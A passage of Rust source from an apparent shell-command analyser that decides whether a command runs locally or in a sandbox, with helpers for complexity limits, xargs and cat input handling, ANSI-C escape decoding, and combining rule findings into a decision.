                    i += 1;
                }
                _ => {}
            }
            i += 1;
        }
    }
}

/// Why a script is too deeply nested or too large to parse safely, if it is. Counts brackets
/// without regard to quoting: an overestimate, which only matters far beyond ordinary commands.
fn too_complex_to_parse(text: &str) -> Option<&'static str> {
    if text.len() > MAX_SCRIPT_LEN {
        return Some("is longer than auto mode inspects");
    }
    let (mut depth, mut max) = (0usize, 0usize);
    for b in text.bytes() {
        match b {
            b'(' | b'{' | b'[' => {
                depth += 1;
                max = max.max(depth);
            }
            b')' | b'}' | b']' => depth = depth.saturating_sub(1),
            _ => {}
        }
    }
    let compounds = text
        .split(|c: char| !c.is_ascii_alphanumeric() && c != '_')
        .filter(|w| {
            matches!(
                *w,
                "if" | "while" | "until" | "for" | "case" | "select" | "function"
            )
        })
        .count();
    (max > MAX_NESTING || compounds > MAX_COMPOUNDS)
        .then_some("nests commands too deeply to inspect")
}

/// `cat` with no file operands (or `-`) copies its input.
fn operands_or_stdin(args: &[Word]) -> bool {
    let files: Vec<&Word> = args
        .iter()
        .filter(|a| !a.text.starts_with('-') || a.text == "-")
        .collect();
    files.is_empty() || files.iter().any(|a| a.text == "-")
}

fn assignment_name(a: &ast::Assignment) -> String {
    match &a.name {
        ast::AssignmentName::VariableName(n) | ast::AssignmentName::ArrayElementName(n, _) => {
            n.clone()
        }
    }
}

/// `~` as a word: the home directory.
fn home_word(text: &str) -> Word {
    let mut w = Word::literal(text);
    w.start = Start::Home;
    w
}

/// `xargs CMD`: CMD with the items read from the input added (or put in place of the replace
/// string).
fn xargs_words(inner: Vec<Word>, replace: Option<&str>, scope: Scope) -> Vec<Word> {
    match replace {
        Some(r) if !r.is_empty() => inner
            .into_iter()
            .map(|w| {
                if w.text.starts_with(r) {
                    Word::input(scope.clone(), &w.text)
                } else {
                    w
                }
            })
            .collect(),
        _ => {
            let mut v = inner;
            v.push(Word::input(scope, "{item}"));
            v
        }
    }
}

/// A few values that stand for all of a loop's values: one of each shape that matters for the
/// rules (absolute, in the home directory, climbing up, unknown, plain).
fn representatives(values: Vec<Word>) -> Vec<Word> {
    if values.len() <= MAX_ALTERNATIVES {
        return values;
    }
    let shape = |w: &Word| {
        let t = w.text.as_str();
        (
            std::mem::discriminant(&w.start),
            t.starts_with('/'),
            t.contains(".."),
            w.dynamic,
            w.network.is_some(),
        )
    };
    let mut seen = Vec::new();
    let mut out = Vec::new();
    for v in values {
        let s = shape(&v);
        if !seen.contains(&s) {
            seen.push(s);
            out.push(v);
        }
    }
    out
}

/// Every combination of the words' alternatives (`None` when there are too many).
fn combinations(words: &[Vec<Vec<Word>>]) -> Option<Vec<Vec<Word>>> {
    let mut combos: Vec<Vec<Word>> = vec![Vec::new()];
    for alts in words {
        if alts.len() == 1 {
            for c in &mut combos {
                c.extend(alts[0].iter().cloned());
            }
            continue;
        }
        let mut next = Vec::with_capacity(combos.len() * alts.len());
        for c in &combos {
            for a in alts {
                let mut n = c.clone();
                n.extend(a.iter().cloned());
                next.push(n);
            }
        }
        if next.len() > 64 {
            return None;
        }
        combos = next;
    }
    Some(combos)
}

/// Decodes `$'…'` text (the escapes that matter for reading a command name).
fn ansi_c(t: &str) -> String {
    let mut out = String::new();
    let mut chars = t.chars().peekable();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        match chars.next() {
            Some('n') => out.push('\n'),
            Some('t') => out.push('\t'),
            Some('r') => out.push('\r'),
            Some('e' | 'E') => out.push('\u{1b}'),
            Some('a') => out.push('\u{7}'),
            Some('x') => {
                let hex: String = std::iter::from_fn(|| chars.next_if(|c| c.is_ascii_hexdigit()))
                    .take(2)
                    .collect();
                if let Some(ch) = u32::from_str_radix(&hex, 16).ok().and_then(char::from_u32) {
                    out.push(ch);
                }
            }
            Some(d @ '0'..='7') => {
                let mut oct = d.to_string();
                while oct.len() < 3 {
                    match chars.next_if(|c| ('0'..='7').contains(c)) {
                        Some(c) => oct.push(c),
                        None => break,
                    }
                }
                if let Some(ch) = u32::from_str_radix(&oct, 8).ok().and_then(char::from_u32) {
                    out.push(ch);
                }
            }
            Some('u' | 'U') => {
                let hex: String = std::iter::from_fn(|| chars.next_if(|c| c.is_ascii_hexdigit()))
                    .take(8)
                    .collect();
                if let Some(ch) = u32::from_str_radix(&hex, 16).ok().and_then(char::from_u32) {
                    out.push(ch);
                }
            }
            Some(other) => out.push(other),
            None => out.push('\\'),
        }
    }
    out
}

/// Turns the walk's findings into one decision.
pub(crate) fn decide(walker: Walker) -> Decision {
    let Walker {
        sandbox,
        local_by_policy,
        ..
    } = walker;
    if let Some(first) = sandbox.first() {
        let mut reason = first.reason.clone();
        let mut others: Vec<&str> = Vec::new();
        for f in &sandbox[1..] {
            if f.rule != first.rule && !others.contains(&f.rule.as_str()) {
                others.push(&f.rule);
            }
        }
        if !others.is_empty() {
            let shown_others: Vec<&str> = others.iter().take(4).copied().collect();
            reason.push_str(&format!(
                "; other parts also need the sandbox ({})",
                shown_others.join(", ")
            ));
        }
        return Decision {
            decision: Mode::Sandbox,
            reason,
            rule: first.rule.clone(),
            part: Some(first.part.clone()),
        };
    }
    if let Some(first) = local_by_policy.into_iter().next() {
        return Decision {
            decision: Mode::Local,
            reason: first.reason,
            rule: first.rule,
            part: Some(first.part),
        };
    }
    Decision {
        decision: Mode::Local,
        reason: "every part of the command only reads, builds or writes inside the working directory (rule default:local)".into(),
        rule: "default:local".into(),
        part: None,
    }
}
